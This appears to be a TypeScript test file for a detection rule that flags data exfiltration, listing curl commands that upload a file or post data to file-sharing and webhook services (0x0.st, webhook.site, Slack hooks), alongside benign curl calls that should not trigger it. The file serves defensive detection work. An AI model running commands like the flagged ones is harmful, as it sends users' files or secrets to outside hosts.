import { rule } from './exfil-service.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'curl -F file=@a https://0x0.st',
    'curl -d hi https://webhook.site/1',
    "curl -d '{}' https://hooks.slack.com/services/x",
  ],
  quiet: [
    'curl https://example.com',
    'curl https://notpastebin.com.example.org/',
  ],
});
